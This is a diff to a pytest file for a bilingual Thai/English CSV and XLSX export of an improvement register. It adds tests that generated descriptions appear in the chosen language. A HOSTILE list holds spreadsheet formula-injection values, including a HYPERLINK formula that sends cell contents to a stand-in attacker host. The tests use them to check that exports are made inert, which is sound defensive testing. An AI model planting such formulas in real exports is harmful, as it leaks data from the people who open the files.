@@ -13,7 +13,7 @@ from sheet_checks import check_print_setup
 from i18n import translate
 from reports.ofi_export import COLUMNS, register_csv, register_xlsx
 from storage import accounts, ofis, org
-from storage.ofis import REGISTER_COLUMNS
+from storage.ofis import DESCRIPTIONS, REGISTER_COLUMNS
 
 BOM = b"\xef\xbb\xbf"
 THAI_HEADERS = ["รหัส", "ที่มา", "ประเด็น", "หมวด", "หน่วยงาน", "โอกาสในการปรับปรุง", "ความสำคัญ", "ผู้รับผิดชอบ",
@@ -25,14 +25,17 @@ ENGLISH_HEADERS = ["ID", "Source", "Item", "Category", "Units", "Opportunity for
 
 @pytest.fixture
 def frame():
-    """Three rows shaped as ``storage.ofis.register`` returns them."""
+    """Three rows shaped as ``storage.ofis.register`` returns them; the first made from a gap."""
+    typed = lambda text: (None, None, text, text)  # noqa: E731  (no gap; read as typed in both languages)
     rows = [
         (3, "gap", "1.1", 1, "U1", [1], "ยังไม่ผ่าน 1.1.B2: สื่อสารวิสัยทัศน์", "high", "board", date(2026, 3, 5),
-         "in_progress", 5.357142857, True, None, "2026-03-01T17:30:00.000+00:00", 2),
+         "in_progress", 5.357142857, True, None, "2026-03-01T17:30:00.000+00:00", 2,
+         "checkpoint", "1.1.B2", "ยังไม่ผ่าน 1.1.B2: สื่อสารวิสัยทัศน์", "1.1.B2 not met yet: share the vision"),
         (1, "committee", "2.3", 2, "U1, U2", [1, 2], "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"", "medium", "unit1",
-         date(2026, 5, 1), "open", None, False, 7, "2026-02-10T01:00:00.000+00:00", 0),
+         date(2026, 5, 1), "open", None, False, 7, "2026-02-10T01:00:00.000+00:00", 0,
+         *typed("ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"")),
         (2, "unit", "7.2", 7, "U3", [3], "ยกระดับความพึงพอใจ", "low", "unit1", date(2026, 1, 31), "done", 0.25,
-         False, None, "2026-02-11T12:00:00.000+00:00", 1),
+         False, None, "2026-02-11T12:00:00.000+00:00", 1, *typed("ยกระดับความพึงพอใจ")),
     ]
     data = pd.DataFrame(rows, columns=REGISTER_COLUMNS)
     data["carried_from"] = data["carried_from"].astype("Int64")
@@ -91,7 +94,8 @@ def test_xlsx_layout_bold_frozen_header_thai_font_and_widths(frame):
 
 @pytest.mark.parametrize("lang", ["th", "en"])
 def test_xlsx_is_set_up_to_print_and_long_descriptions_get_tall_rows(frame, lang):
-    frame.loc[1, "description"] = "ทบทวนกระบวนการวางแผนร่วมกับเครือข่ายทุกภาคส่วน " * 6
+    for column in ("description", *DESCRIPTIONS):  # a typed description, as each language reads it
+        frame.loc[1, column] = "ทบทวนกระบวนการวางแผนร่วมกับเครือข่ายทุกภาคส่วน " * 6
     sheet = read_xlsx(register_xlsx(frame, lang))
     check_print_setup(sheet, "landscape", lang)
     heights = [sheet.row_dimensions[row].height for row in (2, 3, 4)]
@@ -118,6 +122,11 @@ def test_csv_has_a_bom_the_same_columns_and_plain_values(frame):
 def test_english_labels_for_values(frame):
     rows = read_csv_rows(register_csv(frame, "en"))
     assert [r[ENGLISH_HEADERS.index("Status")] for r in rows[1:]] == ["In progress", "Open", "Done"]
+    # issue 25: a gap OFI's generated description stayed Thai in the English export
+    assert [r[ENGLISH_HEADERS.index("Opportunity for improvement")] for r in rows[1:]] == [
+        "1.1.B2 not met yet: share the vision", "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"", "ยกระดับความพึงพอใจ"]
+    sheet = read_xlsx(register_xlsx(frame, "en"))
+    assert sheet.cell(row=2, column=COLUMNS.index("description") + 1).value == "1.1.B2 not met yet: share the vision"
     assert [r[ENGLISH_HEADERS.index("Source")] for r in rows[1:]] == ["Assessment gap", "Committee", "Unit"]
     assert rows[1][ENGLISH_HEADERS.index("Overdue")] == "Overdue"
 
@@ -155,6 +164,11 @@ def test_the_register_of_a_real_store_exports(db):
     assert row["กำหนดเสร็จ"] == datetime(2026, 9, 30) and isinstance(row["ปรับปรุงล่าสุด (เวลาประเทศไทย)"], datetime)
     back = pd.read_csv(io.BytesIO(register_csv(register)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
     assert back.loc[0, "โอกาสในการปรับปรุง"] == "ทบทวนกระบวนการวางแผน" and back.loc[0, "กำหนดเสร็จ"] == "2026-09-30"
+    ofis.from_gap(db, board, 2570, {"kind": "kpi", "ref": "RM3", "item": "7.2", "unit": unit, "points": 2.0},
+                  "board", date(2026, 9, 30), "high", today=date(2026, 1, 1))
+    english = pd.read_csv(io.BytesIO(register_csv(ofis.register(db, board, 2570, today=date(2026, 1, 1)), "en")),
+                          encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert english["Opportunity for improvement"].str.startswith("Raise RM3 ").sum() == 1
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
@@ -162,7 +176,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_text_a_spreadsheet_would_run_is_exported_inert(frame, text):
-    frame.loc[0, "description"] = text
+    frame.loc[0, ["description", *ofis.DESCRIPTIONS]] = text
     frame.loc[0, "owner"] = text
     sheet = read_xlsx(register_xlsx(frame))
     header = [c.value for c in sheet[1]]
